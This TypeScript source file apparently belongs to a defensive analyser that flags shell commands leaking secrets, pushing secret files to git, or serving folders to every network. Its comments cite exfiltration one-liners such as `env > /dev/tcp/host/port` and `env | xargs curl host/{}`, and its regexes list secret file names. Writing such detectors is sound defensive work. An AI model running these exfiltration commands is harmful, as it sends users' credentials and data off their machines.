import type { Analysis } from '../analysis.ts';
import type { Effect } from '../effect.ts';
import { expandHome, joinPath } from '../files/path.ts';
import { isDroppingPlace, isPrivateHost } from '../http/destinations.ts';
import { isLoopback, partsOfUrl } from '../http/url.ts';
import type { Invocation } from '../invocation.ts';
import { outputOf } from '../shell/output.ts';
import { knownWord, type SecretSource, type Word } from '../shell/word.ts';
import { unwrap } from '../shell/wrappers.ts';
import { pathOf, secretBelow, secretWithin } from './below.ts';
import { dataOutput } from './data.ts';
import { dataEffects } from './data-files.ts';
import { findSecrets } from './find.ts';
import { holdsSecret, isClear, isDatabaseFile } from './held.ts';
import { sendersByProgram, servers, type Sender } from './senders.ts';
import { sharedWrite } from './shared-write.ts';
import { secretIn, secretOutput } from './sources.ts';

/** Longest file looked into before a push, in bytes. */
const maxRead = 64 * 1024;

/** Something that would leave this machine. */
interface Leaving {
  readonly what: string;
  readonly kind: string;
}

/** Effects of a program that would send a secret or a database away, or serve one to whoever asks. */
export function exposeEffects(invocation: Invocation, analysis: Analysis): readonly Effect[] {
  const shared = invocation.redirections.length > 0 ? sharedRedirections(invocation, analysis) : [];
  if (shared.length > 0) return shared;
  const leaving = (invocation.redirections.length > 0 ? socketWrite(invocation, analysis) : undefined) ?? taped(invocation, analysis) ?? sent(invocation, analysis) ?? fed(invocation) ?? committed(invocation, analysis);
  if (leaving) return [exposeEffect(leaving, invocation)];
  const pushed = pushedSecret(invocation, analysis);
  if (pushed !== undefined) return [pushEffect(pushed, invocation)];
  const data = invocation.redirections.length > 0 ? socketData(invocation) : undefined;
  if (data) return [socketEffect(data, invocation)];
  const copied = dataEffects(invocation, analysis);
  if (copied.length > 0) return copied;
  const served = servedSecret(invocation, analysis);
  if (served !== undefined) return [serveEffect(served, invocation)];
  return servesEverybody(invocation) ? [openEffect(invocation)] : [];
}

/** A folder served to every network the machine is on, by the words of the command itself. */
function servesEverybody({ program, argv }: Invocation): boolean {
  if (argv.length < 3 || !mayServe(program) || program === 'php') return false;
  const text = argv.slice(1, 33).map((word) => word.text).join(' ').slice(0, 4096);
  const serves = program.startsWith('python') ? /^-m (?:http\.server|SimpleHTTPServer)\b/.test(text) : servers.some(({ programs, when }) => programs.includes(program) && (!when || when.test(text)));
  return serves && /(?:^|[\s=])(?:-b|--bind|-a|--address|-i|--interfaces|-H|--host|-l|--listen|--bind-address)[\s=](?:tcp:\/\/)?(?:0\.0\.0\.0|::|\[::\])(?=[\s:]|$)/.test(text);
}

function openEffect({ program, span }: Invocation): Effect {
  return {
    verb: 'publish', resource: { kind: 'folder', name: '', provider: program }, reversibility: 'recoverable', certainty: 'likely', rule: 'secrets/serve-all',
    why: 'Serves a folder to every machine that can reach this one, not only to this one.', saferWay: 'Bind it to 127.0.0.1.', target: { by: 'path' }, ...(span ? { span } : {}),
  };
}

/** `echo KEY=… >> .env.example`. */
function sharedRedirections(invocation: Invocation, analysis: Analysis): readonly Effect[] {
  const written = invocation.redirections.filter(({ kind, target }) => kind !== 'read' && target.holes.length === 0);
  const output = written.length > 0 ? outputOf(invocation, analysis) : undefined;
  return output?.known ? written.flatMap(({ target }) => sharedWrite(target.text, output.text, analysis)) : [];
}

/** `env > /dev/tcp/host/port`: the shell itself sends. */
function socketWrite(invocation: Invocation, analysis: Analysis): Leaving | undefined {
  const secret = socketHost(invocation) === undefined ? undefined : secretOutput(invocation, analysis);
  return secret && secret.kind !== 'names' ? leavingOf(secret) : undefined;
}

/** The host of a connection that output is redirected into. */
function socketHost({ redirections }: Invocation): string | undefined {
  const socket = redirections.find(({ kind, target }) => kind !== 'read' && /^\/dev\/(?:tcp|udp)\//.test(target.text));
  const host = socket?.target.text.split('/')[3]?.toLowerCase();
  return host === undefined || isLoopback(host) ? undefined : host;
}

/** `tar c src > /dev/tcp/host/port`. */
function socketData(invocation: Invocation): { readonly what: string; readonly host: string } | undefined {
  const host = socketHost(invocation);
  const what = host === undefined || isPrivateHost(host) ? undefined : dataOutput(invocation);
  return host === undefined || what === undefined ? undefined : { what, host };
}

function socketEffect({ what, host }: { readonly what: string; readonly host: string }, invocation: Invocation): Effect {
  return {
    verb: 'publish', resource: { kind: 'file', name: what, provider: host }, reversibility: 'irreversible', certainty: 'certain', rule: 'secrets/socket',
    why: `Sends ${what} to ${host}; what others have cannot be taken back.`, saferWay: 'Let the person send it.', target: { by: 'host', host }, ...(invocation.span ? { span: invocation.span } : {}),
  };
}

/** An archive written straight to another host: https://www.gnu.org/software/tar/manual/html_section/Remote-Tape-Server.html */
function taped(invocation: Invocation, analysis: Analysis): Leaving | undefined {
  const { program, argv, env } = invocation;
  if (program !== 'tar' && program !== 'gtar' && program !== 'bsdtar') return undefined;
  const words = argv.slice(1);
  const options = `${env['TAR_OPTIONS'] ?? ''} ${words.map(({ text }) => text).join(' ')}`.slice(0, 8192);
  const archive = /(?:--file[= ]|(?:^|\s)-?[a-zA-Z]*f ?)([^\s;]+)/.exec(options)?.[1] ?? env['TAPE'] ?? '';
  if (!/^(?:[\w.-]+@)?[\w.-]{2,}:/.test(archive) || /--force-local/.test(options) || !/--(?:create|append|update)\b|(?:^|\s)-?[a-zA-Z]*[cru]/.test(options)) return undefined;
  return heldIn(words.filter(({ text }) => !text.startsWith('-') && text !== archive), false, invocation, analysis);
}

function sent(invocation: Invocation, analysis: Analysis): Leaving | undefined {
  const candidates = sendersByProgram.get(invocation.program);
  if (!candidates) return undefined;
  const args = invocation.argv.slice(1);
  const text = args.map((word) => word.text).join(' ').slice(0, 8192);
  if (staysHere(args)) return undefined;
  for (const sender of candidates) {
    if (sender.when && !sender.when.test(text)) continue;
    const found = sentInput(sender, text, invocation, analysis) ?? sentWords(sender, args) ?? sentFile(sender, args, invocation, analysis);
    if (found) return found;
  }
  return undefined;
}

function sentInput({ input }: Sender, text: string, invocation: Invocation, analysis: Analysis): Leaving | undefined {
  if (input === undefined || (input !== true && !input.test(text))) return undefined;
  const secret = invocation.stdin?.secret;
  if (secret && secret.kind !== 'names') return leavingOf(secret);
  const put = invocation.redirections.filter(({ kind }) => kind === 'read').map(({ target }) => target);
  return heldIn(put, false, invocation, analysis);
}

/** Secrets put into words by substitutions. A credential in a header is being used, which is what it is for. */
function sentWords({ words }: Sender, args: readonly Word[]): Leaving | undefined {
  if (!words) return undefined;
  const dropped = args.some((word) => isDroppingPlace(partsOfUrl(word.text).host));
  const spoken = args.filter((word, at) => dropped || !(secretIn([word])?.kind === 'credential' && isCredentialPlace(word.text, args[at - 1]?.text ?? '')));
  const secret = secretIn(spoken);
  return secret && leavingOf(secret);
}

function isCredentialPlace(text: string, before: string): boolean {
  return /^(?:-[a-zA-Z]*[HuUd]|--header|--user|--proxy-user|--oauth2-bearer|--data\S*|--json|--cookie|-b|--http-user|--http-password|--password|-a|--auth|-A|--auth-type)$/.test(before) || /^(?:-H|-u|--header=|--user=|--oauth2-bearer=|--http-password=|--auth=)|^[\w-]{1,64}:(?!\/\/)/.test(text);
}

function sentFile(sender: Sender, args: readonly Word[], invocation: Invocation, analysis: Analysis): Leaving | undefined {
  if (sender.transfers) return transferred(args, invocation, analysis);
  return sender.files ? heldIn(sender.files(args), sender.keeps ?? false, invocation, analysis) : undefined;
}

function heldIn(words: readonly Word[], keepsDatabases: boolean, invocation: Invocation, analysis: Analysis): Leaving | undefined {
  for (const word of words.slice(0, 64)) {
    const secret = holdsSecret(word, invocation, analysis);
    if (secret) return leavingOf(secret);
    if (!keepsDatabases && isDatabaseFile(word.text)) return { what: word.text, kind: 'database file' };
    const within = secretWithin(word, invocation, analysis);
    if (within !== undefined) return { what: within, kind: 'secret file' };
  }
  return undefined;
}

/** `put file`, said to the program on its input or in its words. */
function transferred(args: readonly Word[], invocation: Invocation, analysis: Analysis): Leaving | undefined {
  const text = [invocation.stdin?.text ?? '', ...args.map((word) => word.text)].join('\n').slice(0, 16_384);
  const names = [...text.matchAll(/(?:^|[;\n])\s*(?:put|mput|reput|send|mirror -R)\s+(?:-[^\s;]+\s+)*([^\s;]+)/g)].map((match) => knownWord(match[1] ?? ''));
  return heldIn(names, false, invocation, analysis);
}

/** `env | xargs -I{} curl host/{}`: what the program is given comes from the input. */
function fed(invocation: Invocation): Leaving | undefined {
  const secret = invocation.stdin?.secret;
  if (!secret || !/^(?:g?xargs|parallel)$/.test(invocation.program)) return undefined;
  const inner = unwrap(invocation)?.invocation;
  return inner && sendersByProgram.get(inner.program)?.some(({ words, files }) => words === true || files !== undefined) ? leavingOf(secret) : undefined;
}

/** `git add -f .env`: what is committed is pushed, and stays in the history of everybody who fetches. */
function committed(invocation: Invocation, analysis: Analysis): Leaving | undefined {
  const { program, argv } = invocation;
  if (program !== 'git') return undefined;
  const at = argv.findIndex((word, index) => index > 0 && /^(?:add|stage)$/.test(word.text));
  if (at < 0 || argv.slice(1, at).some((word) => /^(?:commit|log|grep|config)$/.test(word.text))) return undefined;
  const words = argv.slice(at + 1);
  if (words.some((word) => /^(?:-n|--dry-run)$/.test(word.text))) return undefined;
  const forced = words.some((word) => /^(?:-[a-zA-Z]*f[a-zA-Z]*|--force)$/.test(word.text));
  const named = words.filter((word) => !word.text.startsWith('-') && word.globs.length === 0 && (forced || alwaysSecret.test(word.text)));
  for (const word of named.slice(0, 64)) {
    const secret = holdsSecret(word, invocation, analysis);
    // Files of settings that may hold a login are committed by many projects without one.
    if (secret && (alwaysSecret.test(word.text) || !isClear(word, invocation, analysis))) return leavingOf(secret);
  }
  return addedBelow(words, invocation, analysis);
}

/** Most names looked at in the folder of a repository. */
const mostNames = 2_000;

/**
 * A file of the repository's own folder that git keeps, that holds secrets by name and by content, while there are commits
 * nobody else has yet. Which files those commits touch is not looked at.
 */
function pushedSecret({ program, argv, cwd }: Invocation, analysis: Analysis): string | undefined {
  const { world } = analysis;
  if (program !== 'git' || !world.sighted || cwd === undefined) return undefined;
  const at = argv.findIndex(({ text }, index) => index > 0 && !text.startsWith('-') && !/^-[Cc]$/.test(argv[index - 1]?.text ?? ''));
  if (argv[at]?.text !== 'push' || argv.slice(at + 1).some(({ text }) => /^(?:-n|--dry-run|-d|--delete)$/.test(text))) return undefined;
  const git = world.git(cwd);
  if (!git || git.unpushed === 0) return undefined;
  const names = (world.list(git.root) ?? []).slice(0, mostNames).filter((name) => alwaysSecret.test(name) && !git.untracked.includes(name));
  return names.slice(0, 8).find((name) => {
    const path = joinPath(git.root, name, world.platform);
    const text = world.ignores(path) === false ? world.read(path, maxRead) : undefined;
    return text !== undefined && findSecrets(text, { path }).findings.length > 0;
  });
}

function pushEffect(name: string, { span }: Invocation): Effect {
  return {
    verb: 'expose', resource: { kind: 'secret file', name, provider: 'git' }, reversibility: 'irreversible', certainty: 'likely', rule: 'secrets/push',
    why: `Pushes from a repository that keeps ${name}, which holds secrets, to where others fetch it.`, saferWay: 'Take the file out of git first (git rm --cached), and change what it held.',
    target: { by: 'path' }, ...(span ? { span } : {}),
  };
}

/** A secret file that adding a folder, or everything, would take along: git neither has nor ignores it yet. */
function addedBelow(words: readonly Word[], invocation: Invocation, analysis: Analysis): Leaving | undefined {
  const { world } = analysis;
  if (!world.sighted || words.some(({ text }) => /^(?:-u|--update|-p|--patch|-i|--interactive|-e|--edit)$/.test(text))) return undefined;
  const all = words.some(({ text }) => /^(?:-A|--all|--no-ignore-removal)$/.test(text));
  const folders = words.filter(({ text }) => !text.startsWith('-'));
  for (const folder of (folders.length === 0 && all ? [knownWord('.')] : folders).slice(0, 16)) {
    const facts = world.git(pathOf(folder, invocation, analysis));
    const found = facts && secretBelow(folder, invocation, analysis, (path) => alwaysSecret.test(path) && world.ignores(path) !== true && facts.untracked.some((name) => path === joinPath(facts.root, name)));
    if (found !== undefined) return { what: found, kind: 'secret file' };
  }
  return undefined;
}

/** Files nobody means to commit; others with such names hold settings in many projects. */
const alwaysSecret = /(?:^|\/)(?:\.env(?:\.(?:local|prod|production|staging|development|dev))*|id_(?:rsa|dsa|ecdsa|ed25519)|credentials\.json|\.netrc|\.pgpass|[\w-]*service[-_]?account[\w-]*\.json|[\w.-]+\.(?:tfstate|p12|pfx|ppk))$/;

const servingPrograms: ReadonlySet<string> = new Set(servers.flatMap(({ programs }) => programs));

/** Python serves through a module of its own. */
function mayServe(program: string): boolean {
  return servingPrograms.has(program) || program.startsWith('python');
}

function servedSecret(invocation: Invocation, analysis: Analysis): string | undefined {
  if (invocation.argv.length === 0 || !mayServe(invocation.program)) return undefined;
  const args = invocation.argv.slice(1);
  const module = args[0]?.text === '-m' ? (args[1]?.text ?? '') : '';
  const name = module === '' ? invocation.program : module;
  const text = args.map((word) => word.text).join(' ').slice(0, 4096);
  const server = servers.find(({ programs, when }) => programs.includes(name) && (!when || when.test(text)));
  if (!server || /(?:^|[\s=@/])(?:localhost|127\.\d+\.\d+\.\d+|::1)(?=[\s:/]|$)/.test(text)) return undefined;
  const operand = server.operand ? args.findLast((word) => !word.text.startsWith('-') && !/^(?:\d+|httpd|-e|\.)$/.test(word.text)) : undefined;
  const folder = server.folder?.exec(text)?.[1] ?? operand?.text ?? '.';
  return secretBelow({ text: folder, holes: [], globs: [] }, invocation, analysis) ?? wholeHome(folder, invocation, analysis);
}

/** A home folder or a whole disk has secrets below it, seen or not. */
function wholeHome(folder: string, invocation: Invocation, analysis: Analysis): string | undefined {
  const { home, world } = analysis;
  const expanded = expandHome(folder, home, world.platform) ?? folder;
  const path = joinPath(invocation.cwd ?? '', expanded, world.platform);
  const known = /^(?:\/|~\/?|\/root|\/home(?:\/[^/]+)?|\/Users(?:\/[^/]+)?|\/etc|\$HOME)$/.test(folder) || path === '/' || (home !== undefined && path === home);
  return known ? folder : undefined;
}

/** True when everything is sent to this machine: at least one address stands there, and all are its own. */
function staysHere(args: readonly Word[]): boolean {
  const hosts = args.flatMap((word) => {
    const url = /(?:^|[\s=])(?:[a-z]{2,6}:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[::1\]|host\.docker\.internal)(?=[:/\s]|$)/i.exec(word.text)?.[1];
    if (url !== undefined) return [url.replace(/[[\]]/g, '').toLowerCase()];
    const written = /^(?:[a-z]{2,6}:\/\/)?([\w-]{1,63}(?:\.[\w-]{1,63})+|\$\{?\w+\}?)(?::\d+)?(?:\/.*)?$/i.exec(word.text)?.[1];
    return written !== undefined && (word.text.includes('://') || /\.[a-z]{2,}$|^\d+\.\d+\.\d+\.\d+$/i.test(written)) && !/\.(?:json|txt|env|sql|db|pem|key|log|gz|tgz|zip|ya?ml|csv|md)$/i.test(written) ? [written.toLowerCase()] : [];
  });
  return hosts.length > 0 && hosts.every(isLoopback);
}

function leavingOf({ kind, name }: SecretSource): Leaving {
  return { what: name, kind: kind === 'file' ? 'secret file' : kind === 'environment' ? 'environment' : kind === 'search' ? 'search for secrets' : 'credential' };
}

function exposeEffect({ what, kind }: Leaving, invocation: Invocation): Effect {
  const { program } = invocation;
  const commits = program === 'git';
  return {
    verb: 'expose', resource: { kind, name: what, provider: program || 'network' }, reversibility: 'irreversible', certainty: 'certain', rule: commits ? 'secrets/commit' : 'secrets/send',
    why: commits ? `Puts ${what}, which holds secrets, into git, from where it is pushed and stays in the history.`
      : kind === 'database file' ? `Sends ${what}, which holds the data of a database, away from this machine.`
      : kind === 'environment' ? `Sends ${what}, with every secret in it, away from this machine.`
      : `Sends ${kind === 'search for secrets' ? 'what a search for secrets finds' : kind === 'credential' ? `the credential ${what} keeps` : `${what}, which holds secrets,`} away from this machine.`,
    saferWay: commits ? 'Commit an example file without values, such as .env.example.' : 'Send a copy without the values, or let a person send it.',
    target: { by: 'path' }, ...(invocation.span ? { span: invocation.span } : {}),
  };
}

function serveEffect(path: string, invocation: Invocation): Effect {
  return {
    verb: 'expose', resource: { kind: 'secret file', name: path, provider: 'network' }, reversibility: 'irreversible', certainty: 'certain', rule: 'secrets/serve',
    why: `Serves a folder with secrets in it (${path}) to whoever can reach this machine.`,
    saferWay: 'Bind it to 127.0.0.1, or serve a folder that holds only what is meant to be seen.', target: { by: 'path' }, ...(invocation.span ? { span: invocation.span } : {}),
  };
}
